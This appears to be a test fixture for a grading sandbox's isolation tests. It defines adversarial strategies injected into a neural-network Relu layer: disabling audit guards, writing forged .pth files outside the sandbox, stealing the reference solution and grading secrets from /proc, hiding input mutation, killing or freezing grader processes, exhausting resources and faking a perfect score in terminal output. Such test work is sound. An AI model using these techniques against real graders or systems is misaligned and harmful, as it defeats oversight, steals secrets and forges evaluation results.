"""The attacks of issue 9, one STRATEGY each, injected into Relu of the honest example
(honest_cnn.py, a copy of conformance/examples/submission/cnn.py). tests/test_isolation.py
writes adv_config.py beside this file and says how each must be graded, as root and as an
unprivileged user. Every attack tries its strongest form: where the audit hook is in the way, it
switches the hook off first (object.__subclasses__), as a determined submission would.
"""
import ctypes
import json
import os
import signal
import struct
import sys
import time

import honest_cnn
import numpy as np
from adv_config import CONFIG
from honest_cnn import *  # noqa: F403

STRATEGY = CONFIG["strategy"]
HELD = []  # what the memory attack holds on to, so that it stays held


# ---------------------------------------------------------------------------------------------
# Getting the audit hook out of the way


def disable_guards():
    """Find the harness's guard classes through object.__subclasses__() and switch them off."""
    done = False
    for cls in object.__subclasses__():
        stack = [cls]
        while stack:
            c = stack.pop()
            try:
                stack += c.__subclasses__()
            except TypeError:
                continue
            if c.__name__ == "Guards":
                c.audit = lambda self, event, args: None
                c.refuse = lambda self, *args, **kwargs: None
                c.forbidden_module = lambda self, name: False
                done = True
            elif c.__name__ == "RefuseForbiddenImports":
                c.find_spec = staticmethod(lambda *args, **kwargs: None)
    return done


# ---------------------------------------------------------------------------------------------
# Each attack; the honest answer follows unless the attack says otherwise


def write_outside():
    """Writes aimed at a folder outside the sandbox (a stand-in for the grader's
    site-packages, where a .pth would forge every later grading): through dir_fd after a chdir
    into a deep subfolder (the hook resolves from the cwd, the kernel from the fd), absolutely,
    and through a link."""
    disable_guards()
    target = CONFIG["target"]
    work = os.getcwd()
    deep = os.path.join(work, "a", "b", "c", "d")
    os.makedirs(deep, exist_ok=True)
    os.chdir(deep)
    fd = os.open(work, os.O_RDONLY)
    for name, how in (("via-dirfd.pth", "dirfd"), ("absolute.pth", "absolute"),
                      ("via-link.pth", "link")):
        try:
            if how == "dirfd":
                rel = os.path.relpath(os.path.join(target, name), work)
                out = os.open(rel, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
            elif how == "absolute":
                out = os.open(os.path.join(target, name), os.O_CREAT | os.O_WRONLY, 0o644)
            else:
                os.symlink(target, os.path.join(work, "link"))
                out = os.open(os.path.join(work, "link", name), os.O_CREAT | os.O_WRONLY, 0o644)
            os.write(out, b"import os; os.environ['FORGED'] = '1'\n")
            os.close(out)
        except OSError:
            pass
    os.chdir(work)


def _exec_reference(package):
    namespace = {"np": np, "__name__": "stolen"}
    source = []
    for name in ("_checks.py", os.path.join("layers", "activation.py")):
        with open(os.path.join(package, name)) as f:
            source.append(f.read())
    code = "\n".join(source).replace("from .._checks import", "# from .._checks import")
    exec(compile(code, "stolen", "exec"), namespace)
    return namespace["Relu"]


def _walk_with_fds(top, deadline, depth=6):
    """Folders under `top`, listed through descriptors (os.listdir(fd) is not path-checked)."""
    todo = [(top, 0)]
    while todo and time.monotonic() < deadline:
        path, level = todo.pop()
        try:
            fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            names = os.listdir(fd)
        except OSError:
            names = []
        finally:
            os.close(fd)
        if "_checks.py" in names and "layers" in names:
            yield path
        if level < depth:
            todo += [(os.path.join(path, n), level + 1) for n in names
                     if n not in ("proc", "sys", "dev", ".git", "__pycache__")]


def steal_reference():
    """The reference's Relu by every route: import (after switching the hook off), the
    checkout, a copy planted elsewhere, any copy found by walking the filesystem with fds."""
    disable_guards()
    failures = []
    try:
        sys.path[:0] = [CONFIG["checkout"], CONFIG["planted"]]
        from scratch_cnn import Relu as Stolen
        return Stolen
    except Exception as exc:  # noqa: BLE001
        failures.append(f"import: {type(exc).__name__}")
    deadline = time.monotonic() + 2.0
    for top in (CONFIG["planted"], CONFIG["checkout"], *sys.path, "/"):
        for found in _walk_with_fds(top, deadline):
            try:
                return _exec_reference(found)
            except Exception as exc:  # noqa: BLE001
                failures.append(f"{found}: {type(exc).__name__}")
    raise LookupError("no copy of the reference found (" + "; ".join(failures[:5]) + ")")


def import_forbidden_anywhere():
    """Every folder of installed packages the sandbox shows (the base installation a venv was
    made from, /usr's dist-packages), each put on sys.path in turn, and every forbidden
    package tried from it: raises with what imported, so that it shows in the feedback."""
    import glob
    import importlib

    disable_guards()
    prefixes = {"/usr", "/usr/local", sys.prefix, sys.base_prefix, sys.exec_prefix}
    folders = sorted({f for prefix in prefixes
                      for pattern in ("lib/python3*/*-packages", "lib/python3/dist-packages")
                      for f in glob.glob(os.path.join(prefix, pattern))})
    imported = []
    for folder in folders:
        for name in CONFIG["forbidden"]:
            saved = sys.path[:]
            sys.path[:] = [folder, *saved]
            for loaded in [m for m in sys.modules if m.split(".")[0] == name.split(".")[0]]:
                del sys.modules[loaded]
            try:
                importlib.import_module(name)
                imported.append(f"{name} from {folder}")
            except BaseException:  # noqa: BLE001 - hidden, absent or broken: not imported
                pass
            finally:
                sys.path[:] = saved
    raise LookupError(f"searched {len(folders)} package folders; imported: "
                      + ("; ".join(imported) or "none"))


def steal_secret():
    """The grading secret from any process's environment, printed and raised (so that it
    would show in the visible feedback) if found."""
    disable_guards()
    name = CONFIG["secret_name"].encode()
    found = os.environ.get(CONFIG["secret_name"])
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]
    except OSError:
        pids = ["self"]
    for pid in pids:
        try:
            fd = os.open(f"/proc/{pid}/environ", os.O_RDONLY)
            data = os.read(fd, 1 << 20)
            os.close(fd)
        except OSError:
            continue
        for item in data.split(b"\0"):
            if item.startswith(name + b"="):
                found = item.split(b"=", 1)[1].decode()
    if found:
        print(f"the secret is {found}")
        raise ValueError(f"the secret is {found}")
    raise LookupError("no secret found")


def hide_mutation(x, pristine):
    """After clipping x in place: make every copy of the inputs the harness could hold look
    unchanged again (frames' dicts and lists, write-through locals on 3.13), and patch anything
    that looks like a mutation check."""
    frame = sys._getframe()
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            if isinstance(value, dict):
                for k, v in list(value.items()):
                    if isinstance(v, np.ndarray) and v.shape == x.shape:
                        value[k] = pristine.copy()
            elif isinstance(value, (list, tuple)):
                fixed = [(item[0], pristine.copy()) if isinstance(item, tuple)
                         and len(item) == 2 and isinstance(item[1], np.ndarray)
                         and item[1].shape == x.shape else item for item in value]
                try:
                    frame.f_locals[key] = type(value)(fixed)  # write-through on Python 3.13
                except (TypeError, KeyError):
                    pass
        for name in list(frame.f_globals):
            if "changed" in name or "mutated" in name:
                frame.f_globals[name] = lambda *args, **kwargs: False
        frame = frame.f_back


def hold_memory():
    """Memory held outside the address-space limit, by every route; how much, in the error."""
    disable_guards()
    block = b"\1" * (16 << 20)
    cap = CONFIG["memory_cap_mb"] << 20
    held = {}

    def fill(route, write):
        n = 0
        try:
            while n < cap:
                write(block)
                n += len(block)
        except (OSError, MemoryError, ValueError):
            pass
        held[route] = n

    try:
        fd = os.memfd_create("hoard")
        HELD.append(fd)
        fill("memfd", lambda b: os.write(fd, b))
    except (OSError, AttributeError):
        held["memfd"] = 0
    for path in ("/dev/shm/hoard", "hoard-in-work-folder"):
        try:
            fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
            HELD.append(fd)
            fill(path, lambda b, fd=fd: os.write(fd, b))
        except OSError:
            held[path] = 0
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    shm = libc.shmget(0, ctypes.c_size_t(cap), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if shm >= 0:
        address = libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, cap)
            libc.shmdt(ctypes.c_void_p(address))
            held["sysv shm"] = cap
    total = sum(held.values()) >> 20
    # Held, and measured: now let go, so that a run with a defence switched off leaves nothing
    # on the machine (a System V segment or a file in /dev/shm would outlive the process).
    if shm >= 0:
        libc.shmctl(shm, 0, None)  # IPC_RMID
    for path in ("/dev/shm/hoard", "hoard-in-work-folder"):
        try:
            os.unlink(path)
        except OSError:
            pass
    for fd in HELD:
        os.close(fd)
    HELD.clear()
    raise RuntimeError(f"held {total} MB outside the limit: "
                       + ", ".join(f"{k} {v >> 20} MB" for k, v in held.items()))


def _processes():
    """pid -> command line of every process of this test that this one can see (the test's
    folder in its command line or working folder: the machine's other processes are left
    alone even where the sandbox would not stop this)."""
    table = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace")
                try:
                    cwd = os.readlink(f"/proc/{name}/cwd")
                except OSError:
                    cwd = ""
            except OSError:
                continue
            if CONFIG["scope"] in cmd or cwd.startswith(CONFIG["scope"]):
                table[int(name)] = cmd
    return table


def _signal(pid, sig):
    try:
        fd = os.pidfd_open(pid)
        signal.pidfd_send_signal(fd, sig)
        os.close(fd)
    except (OSError, AttributeError):
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def interfere():
    """Kill every other sandbox of this test and stop every grading process it can see, for
    most of the call's time (its classmate is being graded meanwhile)."""
    disable_guards()
    me = os.getpid()
    deadline = time.monotonic() + CONFIG["seconds"]
    while time.monotonic() < deadline:
        for pid, cmd in _processes().items():
            if pid == me or "grade-batch" in cmd:
                continue
            if "conformance.cli" in cmd or "grade_runner.py" in cmd:
                _signal(pid, signal.SIGSTOP)
            else:  # a sandbox: bwrap, or the bare child
                _signal(pid, signal.SIGKILL)
        time.sleep(0.05)


def kill_grader():
    """SIGKILL the grader (every process running `conformance.cli grade` it can see)."""
    disable_guards()
    for pid, cmd in _processes().items():
        if ("conformance.cli" in cmd or "grade_runner.py" in cmd) and pid != os.getpid():
            _signal(pid, signal.SIGKILL)


def outlive():
    """Clear the death signal through ctypes, try to start a daemon, then hang: the grader will
    be killed outright, and nothing of this submission may live on."""
    disable_guards()
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG, 0
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", CONFIG["marker"]])
    except OSError:
        pass
    while True:
        pass


def deep_tree():
    """3000 nested folders in the working folder, read-only ones among them, and a link loop."""
    disable_guards()
    fd = os.open(".", os.O_RDONLY)
    for i in range(3000):
        try:
            os.mkdir("d", dir_fd=fd)
            deeper = os.open("d", os.O_RDONLY, dir_fd=fd)
        except OSError:
            break
        if i % 500 == 0:
            os.symlink("..", "loop", dir_fd=fd)
        os.close(fd)
        fd = deeper
    os.close(fd)
    os.chmod("d", 0o500)


def many_files():
    """Empty files hold kernel memory (inodes) that no size cap counts."""
    fd = os.open(".", os.O_RDONLY)
    for n in range(CONFIG["files"]):
        os.close(os.open(f"empty-{CALLS[0]}-{n}", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
    os.close(fd)


def fill_disk():
    block = b"x" * (1 << 20)
    written = 0
    while written < CONFIG["memory_cap_mb"] << 20:
        with open(f"junk-{written}", "wb") as f:
            f.write(block)
        written += len(block)


def forge_load_report():
    """At load time: a "loaded" frame whose report has an int where a file name goes."""
    data = json.dumps({"kind": "loaded", "refused": [], "arrays": [], "report": {
        "units": [{"file": 5, "status": "raised", "error": {"type": "X"}}]}}).encode()
    os.write(int(sys.argv[2]), struct.pack(">I", len(data)) + data)
    time.sleep(30)


def leak_paths():
    """Everything that could name the sandbox's folders, in the error and the output."""
    try:
        open("/etc/forged-results.json", "w")
    except OSError:
        pass
    text = f"cwd={os.getcwd()} file={__file__} home={os.environ.get('HOME')}"
    print(text)
    raise ValueError(text)


# ---------------------------------------------------------------------------------------------


if STRATEGY == "forge_load_report":
    forge_load_report()
CALLS = [0]


class Relu(honest_cnn.Relu):
    def forward(self, x):
        CALLS[0] += 1
        if STRATEGY == "write_outside":
            write_outside()
        elif STRATEGY == "steal_reference":
            stolen = steal_reference()()
            self.backward = stolen.backward
            return stolen.forward(x)
        elif STRATEGY == "steal_secret":
            steal_secret()
        elif STRATEGY == "import_forbidden":
            import_forbidden_anywhere()
        elif STRATEGY == "mutate_and_hide":
            pristine = x.copy()
            self.mask = x <= 0
            np.maximum(x, 0, out=x)
            hide_mutation(x, pristine)
            return x.copy()
        elif STRATEGY == "hold_memory":
            hold_memory()
        elif STRATEGY == "interfere":
            interfere()
        elif STRATEGY == "kill_grader":
            kill_grader()
        elif STRATEGY == "outlive":
            outlive()
        elif STRATEGY == "deep_tree":
            if CALLS[0] == 1:
                deep_tree()
        elif STRATEGY == "fill_disk":
            fill_disk()
        elif STRATEGY == "many_files":
            many_files()
        elif STRATEGY == "leak_paths":
            leak_paths()
        elif STRATEGY == "odd_text":
            raise ValueError("lone \ud800 surrogate \x1b[2J\x1b[Hscore 100 / 100 \x07")
        elif STRATEGY == "hint_tag":
            raise ValueError("[hint: no-such-hint]")
        elif STRATEGY != "honest":
            raise AssertionError(STRATEGY)
        return super().forward(x)

